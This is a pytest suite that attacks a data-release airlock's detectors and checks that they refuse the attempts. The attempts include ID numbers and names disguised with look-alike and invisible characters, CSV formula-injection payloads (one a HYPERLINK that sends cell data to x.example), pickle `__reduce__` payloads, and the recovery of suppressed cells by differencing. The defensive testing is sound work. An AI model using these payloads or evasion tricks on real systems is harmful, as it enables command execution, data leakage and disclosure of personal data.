"""Attacks on the airlock's detectors, each as a real release request through the API.

Classes: ID number variants, name variants, formulas, pickles, base64 and other encodings,
values split across cells, suppressed cells recoverable from another file, and undeclared
tables in the cross-project ledger.  Every variant must be returned before a checker sees it
(or, where the rule only warns, be flagged to the checker).
"""

from __future__ import annotations

import base64
import pickle
from typing import Any

import pytest

from countylab.airlock.checks.scan import pii_in_cells, pii_in_text
from tests.airlock_e2e.conftest import World, build_world, xlsx_bytes
from tests.attacks.detector_support import ID, NAME, PHONE, checks_of, failed, fresh_id, submit, world

__all__ = ["world"]

CONFUSABLE = str.maketrans({"0": "О", "1": "І", "3": "З", "X": "Х"})  # Cyrillic О І З Х
FULLWIDTH = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
A_TO_J = str.maketrans("0123456789", "abcdefghij")
LEET = str.maketrans("0123456789", "oizeasgtbq")
SHIFT3 = str.maketrans("0123456789", "3456789012")


def _table(cell: str) -> bytes:
    return f"village,residents,note\n青禾村,40,ok\n东岭村,40,{cell}\n".encode()


# -- ID number variants ---------------------------------------------------------------------
ID_VARIANTS = {
    "prefix_in_cell": "ID" + ID,
    "prefix_chinese": "身份证号码" + ID + "号",
    "dots": ".".join(ID[i : i + 3] for i in range(0, 18, 3)),
    "spaces_dashes_underscores": f"{ID[:6]} {ID[6:10]}-{ID[10:14]}_{ID[14:]}",
    "look_alike_letters": ID.translate(CONFUSABLE),
    "full_width": ID.translate(FULLWIDTH),
    "zero_width_inside": "\u200b".join(ID),
    "bidi_marks": "\u202a" + ID[:9] + "\u2066" + ID[9:] + "\u202c",
    "letters_a_to_j": ID[:17].translate(A_TO_J) + ID[17],
    "leetspeak": ID[:17].translate(LEET) + ID[17],
    "digit_shift": ID.translate(SHIFT3),
    "reversed": ID[::-1],
    "fresh_id_with_prefix": "no." + fresh_id(),
}


@pytest.mark.parametrize("variant", sorted(ID_VARIANTS))
def test_id_number_variants_in_a_cell_are_returned(world: World, variant: str) -> None:
    cell = ID_VARIANTS[variant]
    # the detector itself, whatever other rule might refuse the file first
    assert pii_in_cells(("village", "note"), [("东岭村", cell)], [3]), variant
    req = submit(world, {"t.csv": _table(cell)})
    checks = checks_of(req, "t.csv")
    assert req["state"] == "returned", (variant, {k: v["status"] for k, v in checks.items()})
    if checks["file_type"]["status"] != "fail":
        assert checks["pii_scan"]["status"] == "fail" or checks["leakage_scan"]["status"] == "fail"
    assert ID not in str(checks)  # positions and kinds only


@pytest.mark.parametrize("variant", ["dots", "look_alike_letters", "letters_a_to_j", "zero_width_inside"])
def test_id_number_variants_in_a_log_are_returned(world: World, variant: str) -> None:
    log = f"step 1 ok\nprocessed {ID_VARIANTS[variant]} fine\nstep 2 ok\n"
    assert [h.line for h in pii_in_text(log)] == [2]
    failed(submit(world, {"run.log": log.encode()}), "run.log", "pii_scan")


def test_id_number_in_an_xlsx_string_cell_with_prefix(world: World) -> None:
    def build(wb: Any) -> None:
        ws = wb.active
        ws.append(["village", "note"])
        ws.append(["青禾村", "证件" + ID.translate(CONFUSABLE)])

    failed(submit(world, {"t.xlsx": xlsx_bytes(build)}), "t.xlsx", "pii_scan")


# -- values split across adjacent cells -----------------------------------------------------
@pytest.mark.parametrize("parts", [2, 3])
def test_id_number_split_across_cells(world: World, parts: int) -> None:
    cut = [0, 9, 18] if parts == 2 else [0, 6, 12, 18]
    cells = [ID[cut[i] : cut[i + 1]] for i in range(parts)]
    header = ",".join(["village", *[f"c{i}" for i in range(parts)]])
    data = f"{header}\n青禾村,{','.join(cells)}\n".encode()
    failed(submit(world, {"t.csv": data}), "t.csv", "pii_scan")


def test_phone_split_across_cells_with_dots(world: World) -> None:
    """Digits of decimal statistics line up like phone numbers by chance, so a mobile made with a
    fractional cell is a warning, not a refusal: never released automatically, and shown to the
    checkers with its line."""
    data = f"village,a,b\n青禾村,{PHONE[:3]}.{PHONE[3:7]},{PHONE[7:]}\n".encode()
    req = submit(world, {"t.csv": data})
    scan = checks_of(req, "t.csv")["pii_scan"]
    assert req["state"] in ("returned", "under_review") and req["checkers_needed"] >= 1
    assert scan["status"] in ("warn", "fail") and scan["details"]["pii"][0]["line"] == 2


# -- name variants --------------------------------------------------------------------------
@pytest.mark.parametrize(
    "disguise",
    [
        lambda n: "\u200b".join(n),  # zero-width spaces
        lambda n: "\u200d".join(n),  # zero-width joiners
        lambda n: "\ufeff" + n,  # a BOM in front
        lambda n: n[0] + "\u00ad" + n[1:],  # a soft hyphen
        lambda n: "\u2060".join(n),  # word joiners
    ],
    ids=["zwsp", "zwj", "bom", "soft_hyphen", "word_joiner"],
)
def test_source_names_with_invisible_characters_are_returned(world: World, disguise: Any) -> None:
    rows = "".join(f"{disguise(r)},40\n" for r in (NAME, "王芳二", "李娜三"))
    req = submit(world, {"t.csv": f"name,visits\n{rows}".encode()})
    failed(req, "t.csv", "leakage_scan")


def test_source_name_split_across_cells_is_shown_to_the_checker(world: World) -> None:
    req = submit(world, {"t.csv": f"a,b,n\n{NAME[0]},{NAME[1:]},40\n".encode()})
    leak = checks_of(req, "t.csv")["leakage_scan"]
    assert leak["status"] in ("warn", "fail")
    assert any(
        m["partial"] or m["column"] == "row" for d in leak["details"]["leakage"] for m in d["cell_matches"]
    )


# -- formulas -------------------------------------------------------------------------------
FORMULAS = {
    "equals": '=HYPERLINK("http://x.example/?"&A2,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus_letters": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_prefixed": "\t=1+1",
    "full_width_equals": "＝1+1",
    "zero_width_prefix": "\u200b=1+1",
}


@pytest.mark.parametrize("kind", sorted(FORMULAS))
def test_csv_formulas_are_refused(world: World, kind: str) -> None:
    cell = FORMULAS[kind].replace('"', '""')
    failed(submit(world, {"t.csv": f'village,note\n青禾村,"{cell}"\n'.encode()}), "t.csv", "table_format")


def test_negative_numbers_and_phones_with_plus_are_not_formulas(world: World) -> None:
    req = submit(world, {"t.csv": "village,change\n青禾村,-5\n东岭村,-1.25\n南湾村,+3\n".encode()})
    assert checks_of(req, "t.csv")["table_format"]["status"] == "pass"


def test_xlsx_text_cell_with_formula_syntax_is_refused(world: World) -> None:
    def build(wb: Any) -> None:
        ws = wb.active
        ws.append(["village", "note"])
        ws.cell(row=2, column=1, value="青禾村")
        cell = ws.cell(row=2, column=2, value="=1+1")
        cell.data_type = "s"  # stored as text: shown as a formula once re-typed or exported

    failed(submit(world, {"t.xlsx": xlsx_bytes(build)}), "t.xlsx", "table_format")


# -- pickles --------------------------------------------------------------------------------
class _Payload:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (print, ("owned",))


@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
@pytest.mark.parametrize("name", ["notes.txt", "data.csv", "metrics.json"])
def test_pickles_in_any_protocol_are_refused(world: World, protocol: int, name: str) -> None:
    blob = pickle.dumps({"rows": [[ID, NAME]], "x": _Payload()}, protocol=protocol)
    req = submit(world, {name: blob})
    assert req["state"] == "returned", checks_of(req, name)


def test_text_pickle_after_a_header_in_a_log(world: World) -> None:
    blob = pickle.dumps(_Payload(), protocol=0)
    req = submit(world, {"run.log": b"training done\nweights follow\n" + blob + b"\nbye\n"})
    failed(req, "run.log", "pickle")


# -- base64 and other encodings -------------------------------------------------------------
def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


ENCODED = {
    "base64_id": lambda: _b64(f"resident {ID}".encode()),
    "base64_twice": lambda: _b64(_b64(ID.encode()).encode()),
    "urlsafe_base64": lambda: base64.urlsafe_b64encode(f"{NAME} {PHONE} {ID}".encode()).decode(),
    "hex": lambda: f"{ID} {PHONE}".encode().hex(),
    "base64_pickle": lambda: _b64(pickle.dumps(_Payload(), protocol=4)),
}


@pytest.mark.parametrize("kind", sorted(ENCODED))
def test_encoded_identifiers_in_logs_are_returned(world: World, kind: str) -> None:
    log = f"epoch 1 loss 0.3\nstate {ENCODED[kind]()}\nepoch 2 loss 0.2\n".encode()
    failed(submit(world, {"train.log": log}), "train.log", "encoded_blobs")


def test_long_opaque_blob_never_passes_unread(world: World) -> None:
    import os

    log = f"checkpoint {_b64(os.urandom(600))}\n".encode()
    req = submit(world, {"train.log": log})
    checks = checks_of(req, "train.log")
    # refused as unreadable by the preview rules, or at least sent to a person by this rule
    refused = checks["file_type"]["status"] == "fail"
    flagged = "encoded_blobs" in checks and checks["encoded_blobs"]["details"]["blobs"]["opaque"] == 1
    assert (refused and req["state"] == "returned") or flagged


# -- suppressed cells recoverable from another file of the same request ---------------------
def test_suppressed_cell_recovered_from_a_total_in_a_second_file(world: World) -> None:
    detail = "village,age_band,residents\n青禾村,60-69,40\n青禾村,70+,*\n东岭村,60-69,35\n东岭村,70+,20\n"
    totals = "village,residents\n青禾村,43\n东岭村,55\n"
    req = submit(world, {"detail.csv": detail.encode(), "totals.csv": totals.encode()})
    result = failed(req, "detail.csv", "recovery")
    assert result["details"]["cells"][0]["from"] == "analyse/totals.csv"


def test_left_out_small_cell_recovered_from_a_second_file(world: World) -> None:
    detail = "village,age_band,residents\n青禾村,60-69,40\n东岭村,60-69,35\n东岭村,70+,20\n"
    totals = "village,residents\n青禾村,43\n东岭村,55\n"
    failed(
        submit(world, {"detail.csv": detail.encode(), "totals.csv": totals.encode()}),
        "detail.csv",
        "recovery",
    )


def test_secondary_suppression_across_files_is_not_flagged(world: World) -> None:
    detail = "village,age_band,residents\n青禾村,60-69,*\n青禾村,70+,*\n东岭村,60-69,35\n东岭村,70+,20\n"
    totals = "village,residents\n青禾村,43\n东岭村,55\n"
    req = submit(world, {"detail.csv": detail.encode(), "totals.csv": totals.encode()})
    assert "recovery" not in checks_of(req, "detail.csv")


def test_recovery_through_a_library_table_and_a_free_form_one(world: World, tmp_path: Any) -> None:
    from tests.airlock.library_support import frame
    from tests.attacks.detector_support import library_files

    counts = {("青禾村", "60-69"): 40, ("东岭村", "60-69"): 35, ("东岭村", "70+"): 20, ("青禾村", "70+"): 3}
    counts.update({("青禾村", "80+"): 30, ("东岭村", "80+"): 25})
    counts.update({("南湾村", "60-69"): 50, ("南湾村", "70+"): 45, ("南湾村", "80+"): 40})
    df = frame(counts, ["village", "age_band"])
    big = df[~((df.village == "青禾村") & (df.age_band == "70+"))]
    files = library_files(
        lambda o: o.pivot_table("detail.csv", big, ["village", "age_band"], [], count_column="residents"),
        tmp_path,
    )
    assert "detail.csv.countylab.json" in files  # the library's sidecar travels with the table
    files["totals.csv"] = "village,residents\n青禾村,73\n东岭村,80\n南湾村,135\n".encode()
    req = submit(world, files)
    failed(req, "detail.csv", "recovery")
    assert checks_of(req, "detail.csv")["output_library"]["details"]["library"] is True


# -- the cross-project ledger over undeclared tables ----------------------------------------
def _approve(world: World, rid: int) -> None:
    for who in ("checker", "checker2"):
        resp = world.client(who).post(f"/api/airlock/requests/{rid}/votes", json={"choice": "approve"})
        assert resp.status_code == 200, resp.text


def test_undeclared_table_isolating_a_household_is_returned_on_grade_3(world: World) -> None:
    first = submit(world, {"all.csv": "hamlet,households\n上村,31\n下村,44\n".encode()}, project="other")
    _approve(world, first["id"])
    # no count columns declared, no sidecar: the ledger still indexes it and finds the pair
    second = submit(world, {"no_dibao.csv": "hamlet,households\n上村,30\n下村,44\n".encode()})
    result = failed(second, "no_dibao.csv", "ledger")
    risks = second["by_name"]["no_dibao.csv"]["ledger_risks"]
    assert risks[0]["cells"] == [{"key": ["上村"], "new": 30.0, "earlier": 31.0}]
    assert result["details"]["risks"] == 1


def test_undeclared_xlsx_table_is_indexed_too(world: World) -> None:
    first = submit(world, {"a.csv": "street,persons\n北街,120\n南街,80\n".encode()}, project="other")
    _approve(world, first["id"])

    def build(wb: Any) -> None:
        ws = wb.active
        ws.append(["street", "persons"])
        ws.append(["北街", 118])
        ws.append(["南街", 80])

    failed(submit(world, {"b.xlsx": xlsx_bytes(build)}), "b.xlsx", "ledger")


def test_differencing_hit_below_grade_3_is_shown_to_checkers(tmp_path: Any) -> None:
    w = build_world(tmp_path, grade="general_2")
    try:
        first = submit(w, {"all.csv": "hamlet,households\n上村,31\n下村,44\n".encode()}, project="other")
        resp = w.client("checker").post(
            f"/api/airlock/requests/{first['id']}/votes", json={"choice": "approve"}
        )
        assert resp.json()["state"] == "released", resp.text
        second = submit(w, {"minus.csv": "hamlet,households\n上村,29\n下村,44\n".encode()})
        assert second["state"] == "under_review"
        assert checks_of(second, "minus.csv")["ledger"]["status"] == "warn"
    finally:
        w.lab.close()


# -- no false alarms on honest outputs ------------------------------------------------------
def test_logs_of_hashes_and_numbers_are_not_identifiers() -> None:
    import hashlib

    from countylab.airlock.checks.scan import pii_in_text

    lines = [
        f"epoch {i} loss 0.{i % 997} sha256 {hashlib.sha256(str(i).encode()).hexdigest()} rows 13912345"
        for i in range(3000)
    ]
    assert pii_in_text("\n".join(lines)) == []  # (the preview rules refuse so many hashes anyway)


def test_wide_numeric_table_is_not_read_as_identifiers(world: World) -> None:
    rows = "".join(f"村{i},{1000 + i * 37}.5,{57025 + i},{13 + i % 7},{350 + i}\n" for i in range(40))
    req = submit(world, {"t.csv": f"village,a,b,c,d\n{rows}".encode()})
    assert checks_of(req, "t.csv")["pii_scan"]["status"] == "pass"


def test_renamed_columns_do_not_hide_a_recovery(world: World) -> None:
    detail = "village,age_band,residents\n青禾村,60-69,40\n青禾村,70+,*\n东岭村,60-69,35\n东岭村,70+,20\n"
    totals = "村,人数\n青禾村,43\n东岭村,55\n"  # other names for the same column and measure
    req = submit(world, {"detail.csv": detail.encode(), "totals.csv": totals.encode()})
    failed(req, "detail.csv", "recovery")


def test_a_grand_total_under_another_breakdown_recovers_the_cell(world: World) -> None:
    detail = "village,age_band,residents\n青禾村,60-69,40\n青禾村,70+,*\n东岭村,60-69,35\n东岭村,70+,20\n"
    by_sex = "sex,persons\n男,48\n女,50\n"  # the same people, another breakdown: 98 − 95 = 3
    failed(
        submit(world, {"detail.csv": detail.encode(), "sex.csv": by_sex.encode()}), "detail.csv", "recovery"
    )
